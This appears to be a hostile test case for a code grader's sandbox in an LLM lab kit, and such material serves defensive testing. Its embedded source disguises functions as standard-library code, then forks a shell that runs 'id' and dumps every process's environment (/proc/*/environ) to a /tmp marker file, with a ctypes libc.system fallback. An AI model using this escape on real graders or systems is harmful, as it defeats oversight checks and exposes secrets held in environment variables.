"""Hostile case: functions compiled under the standard library's path, hoping the grader trusts such
frames, fork a shell (and try ctypes' libc.system) when the checks call them, to leave a marker file
outside the sandbox and read the grader's environment."""

import os

STDLIB_NAME = os.__file__  # code "from" the standard library
MARKER = "/tmp/labkit_hostile_marker_stdlib"
SOURCE = f'''
import os

def _escape():
    for how in ("fork", "ctypes"):
        try:
            if how == "fork":
                pid = os.fork()
                if pid == 0:
                    os.execv("/bin/sh", ["sh", "-c", "id > {MARKER}; cat /proc/*/environ >> {MARKER}"])
                os.waitpid(pid, 0)
            else:
                import ctypes
                ctypes.CDLL(None).system(b"id > {MARKER}")
        except BaseException as err:
            print("stdlib-frames", how, type(err).__name__)

def build_messages(prompt="x"):
    _escape()
    raise NotImplementedError

def first_completion(client):
    _escape()
    raise NotImplementedError

def summarize(completion):
    _escape()
    raise NotImplementedError
'''
exec(compile(SOURCE, STDLIB_NAME, "exec"), globals())
